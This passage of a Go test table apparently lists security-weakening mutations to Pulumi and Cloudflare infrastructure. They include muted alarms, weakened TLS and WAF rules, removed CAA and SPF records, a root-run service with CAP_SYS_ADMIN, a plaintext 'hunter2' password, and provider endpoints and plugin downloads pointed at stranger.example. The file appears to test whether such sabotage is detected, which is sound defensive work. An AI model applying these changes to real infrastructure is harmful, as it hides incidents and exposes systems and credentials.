			`{"Effect": "Allow", "Principal": {"Service": "logging.s3.amazonaws.com"}, "Action": "s3:PutObject", "Resource": "*"}`)},
	170: {gone("aws:s3/bucketReplicationConfig:BucketReplicationConfig", "data").on("made")},
	171: {gone("aws:s3/bucketNotification:BucketNotification", "data").on("made")},
	172: {unset("aws:s3/bucketV2:BucketV2", "data", "objectLockEnabled").on("made")},
	174: {set("aws:s3/bucketV2:BucketV2", "prod-logs", "forceDestroy", true),
		set("aws:s3/bucketV2:BucketV2", "prod-logs", "bucket", "Logs_Of.prod")},
	176: {unset(logGroupType, "prod-web", "kmsKeyId")},
	177: {set(logGroupType, "prod-web", "logGroupClass", "DELIVERY"), set(logGroupType, "prod-web", "retentionInDays", 14.0)},
	178: {set(scalingType, "prod-web", "enabledMetrics", nil), set(alarmType, "prod-edge-errors", "actionsEnabled", false),
		set(alarmType, "prod-database-cpu", "threshold", 101.0), set(alarmType, "prod-database-cpu", "threshold", -1.0),
		set(alarmType, "prod-database-cpu", "period", 61.0), unset(alarmType, "prod-database-cpu", "comparisonOperator"),
		unset(alarmType, "prod-web-healthy", "dimensions.LoadBalancer"),
		set(alarmType, "prod-internal-errors", "metricQueries[1].metric.dimensions",
			in{"LoadBalancer": "app/prod-edge-0ffe8f8/8519e7bb75eba22d"}),
		set(alarmType, "prod-app-ceiling", "metricQueries[0].expression", "IF(servers >= others, 1, 0)"),
		set(alarmType, "prod-edge-latency", "threshold", 61.0), set(alarmType, "prod-database-cpu", "statistic", "SampleCount"),
		set(alarmType, "prod-web-unhealthy", "threshold", 12.0), set(alarmType, "prod-web-healthy", "treatMissingData", "notBreaching"),
		set(alarmType, "prod-edge-errors", "threshold", 100.0), set(alarmType, "prod-web-ceiling", "threshold", 1.0),
		set(alarmType, "prod-edge-errors", "metricQueries[0].expression", "failed * 0"),
		set(compoundType, "prod-users-see-errors", "alarmRule", "FALSE AND ALARM(\"prod-edge-errors-a6c0f28\")"),
		by("a rule by which what tells nobody else tells nobody", func(s *edit) {
			s.set(alarmType, "prod-edge-errors", "alarmActions", nil)
			s.set(compoundType, "prod-users-see-errors", "alarmRule", fmt.Sprintf("ALARM(%q) AND ALARM(%q)",
				s.the(alarmType, "prod-edge-errors").String("name"), s.the(alarmType, "prod-edge-latency").String("name")))
		}), set(alarmType, "prod-database-cpu", "dimensions", in{"DBInstanceIdentifier": "another"})},
	179: {unset(alarmType, "prod-database-storage", "alarmActions"), gone(subscriptionType, "prod-oncall@example.com"),
		set(subscriptionType, "prod-oncall@example.com", "endpoint", "arn:aws:sqs:eu-west-1:444455556666:of-no-stack"),
		set(subscriptionType, "prod-oncall@example.com", "filterPolicy", `{"x": ["y"]}`),
		set(compoundType, "prod-users-see-errors", "alarmRule", "FALSE"),
		set(compoundType, "prod-users-see-errors", "actionsSuppressor.alarm", "another").undecided()},
	181: {unset(topicType, "prod", "kmsMasterKeyId"), set(topicType, "prod", "kmsMasterKeyId", "alias/aws/sns")},
	182: {policyOf(topicRules, "prod", anonymous),
		policyOf(topicRules, "prod",
			`{"Effect": "Allow", "Principal": {"Service": "cloudwatch.amazonaws.com"}, "Action": "sns:Publish", "Resource": "*"}`)},

	183: {set(certificateType, "prod-certificate", "keyAlgorithm", "RSA_1024"), unset(certificateType, "prod-certificate", "keyAlgorithm")},
	184: {set(certificateType, "prod-certificate", "options.certificateTransparencyLoggingPreference", "DISABLED")},
	185: {set(certificateType, "prod-certificate", "domainName", "*.example.com"),
		set(certificateType, "prod-certificate", "subjectAlternativeNames", list("*.example.com"))},
	186: {by("ignored", func(s *edit) { s.the(certificateType, "prod-certificate").IgnoreChanges = []string{"domainName"} })},
	187: {set(certificateType, "prod-certificate", "validationMethod", "EMAIL")},
	188: {gone(validationType, "prod-certificate"), set(certificateType, "prod-certificate", "privateKey", graph.Secret{})},
	189: {gone("aws:route53/queryLog:QueryLog", "zone").on("made"), gone("aws:route53/queryLog:QueryLog", "aurora-zone-queries").
		on("aurora")},
	190: {gone(signingType, "aurora-zone-dnssec").on("aurora"), set(signingType, "aurora-zone-dnssec", "signingStatus", "NOT_SIGNING").
		on("aurora"), set(keySigningType, "aurora-zone-ksk", "status", "INACTIVE").on("aurora")},
	191: {set(recordType, "aurora-edge-guestbook.example.org-a", "aliases", list(in{"name": "gone.eu-west-1.elb.amazonaws.com"})).
		on("aurora"), adds(recordType, in{"type": "A", "name": "x", "records": list("203.0.113.9")}),
		adds(recordType, in{"type": "CNAME", "name": "x", "records": list("old.cloudfront.net")}),
		adds(recordType, in{"type": "NS", "name": "x", "records": list("ns1.stranger.example")}),
		adds(recordType, in{"type": "MX", "name": "x", "records": list("10 mx.stranger.example")}),
		adds(recordType, in{"type": "CAA", "name": "x", "records": list(`0 issue "stranger.example"`)}),
		by("a name inside that leads out", func(s *edit) {
			s.add(recordType, "mutant", in{"zoneId": s.the(zoneType, "prod-private-zone"), "type": "CNAME", "name": "db",
				"records": list("stranger.example")})
		})},
	193: {gone(recordType, "aurora-zone-caa").on("aurora")},
	194: {set(webACLType, edge, "rules", list())},
	195: {unset(webACLType, edge, "rules[0].action"), set(webACLType, edge, "rules[3].overrideAction", in{"count": in{}}),
		set(webACLType, edge, "rules[4].statement.managedRuleGroupStatement.ruleActionOverrides",
			list(in{"name": "SQLi_BODY", "actionToUse": in{"count": in{}}}))},
	196: {gone(webACLLogType, edge), set(webACLLogType, edge, "logDestinationConfigs",
		list("arn:aws:logs:eu-west-1:444455556666:log-group:prod-app-76efd71"))},
	197: {set(webACLType, edge, "visibilityConfig.cloudwatchMetricsEnabled", false),
		set(webACLType, edge, "rules[1].visibilityConfig.cloudwatchMetricsEnabled", false)},
	198: {set(webACLType, edge, "rules[2].overrideAction", in{"count": in{}}),
		set(webACLType, edge, "rules[3].statement.managedRuleGroupStatement.name", "AWSManagedRulesKnownBadInputsRuleSet"),
		set(webACLType, edge, "rules[2].statement.managedRuleGroupStatement.name", "AWSManagedRulesLinuxRuleSet"),
		set(webACLType, edge, "rules[2].statement.managedRuleGroupStatement.ruleActionOverrides",
			list(in{"name": "Log4JRCE_HEADER", "actionToUse": in{"count": in{}}}))},
	199: {set(webACLType, edge, "rules[0].action", in{"count": in{}}),
		set(webACLLogType, edge, "redactedFields", list(in{"singleHeader": in{"name": "cookie"}}))},
	200: {adds("aws:wafregional/webAcl:WebAcl", in{})},
	201: {set(parameterType, "parameter", "type", "String").on("made"), set(parameterType, "parameter", "insecureValue", "x").on("made"),
		unset(parameterType, "parameter", "keyId").on("made")},
	202: {set(documentType, "sessions", "content",
		`{"inputs": {"kmsKeyId": "", "cloudWatchLogGroupName": "x", "cloudWatchEncryptionEnabled": true}}`).on("made"),
		set(documentType, "sessions", "content", `{"inputs": {"kmsKeyId": "k"}}`).on("made")},
	203: {set(documentType, "sessions", "permissions", in{"type": "Share", "accountIds": "All"}).on("made")},
	204: {adds("pulumi:providers:http", in{})},

	205: {zoneSetting("ssl", "full"), zoneSetting("ssl", "flexible"), zoneSetting("ssl", nil)},
	206: {zoneSetting("alwaysUseHttps", "off")},
	207: {zoneSetting("minTlsVersion", "1.0"), zoneSetting("minTlsVersion", nil)},
	208: {zoneSetting("tls13", "off"), zoneSetting("zeroRtt", "on")},
	209: {zoneSetting("securityHeader.maxAge", 60.0), zoneSetting("securityHeader.includeSubdomains", false),
		zoneSetting("securityHeader", nil)},
	210: {zoneSetting("universalSsl", "off")},
	211: {zoneSetting("automaticHttpsRewrites", "off")},
	212: {gone(cfDNSSECType, "proxied-zone-dnssec").on("proxied")},
	213: {gone(webACLForType, edge), set(cfRecordType, "proxied-certificate-guestbook.example.net", "proxied", true).on("proxied")},
	214: {set(cfRecordType, "prod-edge-guestbook.example.com", "name", "*.example.com")},
	215: {set(cfRecordType, "address", "content", "10.0.0.7").on("made"), set(cfRecordType, "address", "content", "fd00::1").on("made")},
	216: {set(cfRecordType, "prod-edge-guestbook.example.com", "content", "gone.eu-west-1.elb.amazonaws.com"),
		adds(cfRecordType, in{"type": "MX", "name": "x", "content": "mx.stranger.example"}),
		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": "letsencrypt.org"}}),
		adds(cfRecordType, in{"type": "CAA", "name": "x", "data": in{"tag": "issue", "value": ";"}}),
		adds(cfRecordType, in{"type": "TXT", "name": "x", "content": "v=spf1 +all"}), adds(cfRecordType, in{"type": "TXT",
			"name":    "a._domainkey.x",
			"content": "v=DKIM1; p=MIGf"}), adds(cfRecordType, in{"type": "HTTPS", "name": "x", "content": "1 stranger.example."})},
	217: {by("no CAA", func(s *edit) {
		for _, authority := range []string{"amazon.com", "letsencrypt.org", "pki.goog", "ssl.com", "sectigo.com"} {
			s.remove(cfRecordType, "proxied-zone-caa-"+authority)
		}
	}).on("proxied")},
	218: {gone(cfRecordType, "proxied-zone-spf").on("proxied"), set(cfRecordType, "proxied-zone-dmarc", "content", "v=DMARC1; p=none").
		on("proxied")},
	219: {gone(webACLForType, "proxied-edge").on("proxied")},
	220: {gone(webACLForType, "proxied-edge").on("proxied")},
	221: {set(webACLType, "proxied-edge", "rules[0].action", in{"count": in{}}).on("proxied")},
	222: {zoneSetting("browserCheck", "off"),
		by("bots", func(s *edit) { s.add(cfBotsType, "mutant", in{"zoneId": s.the(cfZoneType, ""), "fightMode": false}) }).on("proxied")},
	223: {zoneSetting("developmentMode", "on"), zoneSetting("securityLevel", "essentially_off")},
	224: {zoneSetting("hotlinkProtection", "off"), zoneSetting("challengeTtl", 31536000.0)},
	225: {set(cfPullsType, "proxied-zone-origin-pulls", "enabled", false).on("proxied"),
		set(listenerType, "proxied-edge-https", "mutualAuthentication.mode", "off").on("proxied"), by("around it", func(s *edit) {
			s.add(ingressType, "mutant", in{"securityGroupId": s.the(groupType, "proxied-edge"), "ipProtocol": "tcp", "fromPort": 443,
				"toPort": 443, "cidrIpv4": "0.0.0.0/0"})
		}).on("proxied")},

	229: {by("ignored", func(s *edit) { s.the(groupType, "prod-web").IgnoreChanges = []string{"ingress"} }),
		by("all ignored", func(s *edit) { s.the(databaseType, db).IgnoreChanges = []string{"*"} })},
	230: {by("not protected", func(s *edit) { s.the(databaseType, db).Protect = false }),
		by("a bucket of logs", func(s *edit) { s.the("aws:s3/bucketV2:BucketV2", "prod-logs").Protect = false })},
	231: {set("pulumi:providers:aws", "prod-aws", "endpoints", list(in{"s3": "https://stranger.example"})),
		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiHostname", "stranger.example"), set("pulumi:providers:aws",
			"prod-aws", "pluginDownloadURL", "https://stranger.example"),
		unset("pulumi:providers:aws", "prod-aws", "allowedAccountIds"),
		set("pulumi:providers:aws", "prod-aws", "secretKey", graph.Secret{}),
		set("pulumi:providers:cloudflare", "prod-cloudflare", "apiToken", "plain")},
	232: {by("the default", func(s *edit) {
		p := s.add("pulumi:providers:aws", "default_6_83_2", in{"region": "eu-west-1"})
		s.the(vpcType, "prod-network").Provider = p.URN
	})},
	233: {by("no tags", func(s *edit) {
		s.set(vpcType, "prod-network", "tags", nil)
		s.set(vpcType, "prod-network", "tagsAll", nil)
	})},
	234: {by("a password", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["databasePassword"] = "hunter2" }),
		by("in a URL", func(s *edit) { s.the("pulumi:pulumi:Stack", "").Outputs["database"] = "postgres://a:hunter2@db" })},
	235: {set(balancerType, edge, "internal", graph.Unknown{}).undecided()},
	236: {instead("User=causeway\n", "User=root\n"), instead("User=causeway\n", ""), instead("ExecStart=/opt/causeway/current",
		"ExecStart=+/opt/causeway/current"),
		instead("NoNewPrivileges=yes", "NoNewPrivileges=no"), instead("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_ADMIN"),
		into("write_files:", "\n  - {path: /etc/systemd/system/app.service.d/x.conf, content: \"[Service]\\nUser=root\"}"),
		into("write_files:", "\n  - {path: /etc/systemd/system/x.service, content: \"[Service]\\nExecStart=/opt/x\"}")},
	237: {set(listenerType, https, "defaultActions", list(in{"type": "authenticate-oidc", "authenticateOidc": in{
		"issuer": "https://stranger.example"}})), set(listenerType, https, "defaultActions[0].type", "jwt-validation").undecided()},
	238: {parameter("log_disconnections", nil), parameter("log_connections", "0"), parameter("session_replication_role",
		"replica"), parameter("rds.logical_replication", "1"),
		adds(optionsType, in{"options": list(in{"optionName": "MEMCACHED", "port": 11211})})},
	239: {set(alarmType, "prod-database-cpu", "metricName", "ReadLatency"), gone(alarmType, "prod-web-healthy"), gone(alarmType,
		"prod-database-cpu")},
	240: {gone(compoundType, "prod-users-see-errors"), gone(dashboardType, "prod")},
	242: {
		by("another's name", func(s *edit) {
			for _, name := range []string{"prod-app", "prod-web"} {
				s.set("aws:lb/targetGroup:TargetGroup", name, "name", "one")
			}
		}),
		set(aclRuleType, "prod-network-data-from-data", "ruleNumber", 220),
	},
	241: {adds(cfRecordType, in{"name": "guestbook.example.com", "type": "TXT", "content": "google-site-verification=theirs"})},
}

const (
	sse         = "aws:s3/bucketServerSideEncryptionConfigurationV2:BucketServerSideEncryptionConfigurationV2"
	bucketRules = "aws:s3/bucketPolicy:BucketPolicy"
	lifecycle   = "aws:s3/bucketLifecycleConfigurationV2:BucketLifecycleConfigurationV2"
)
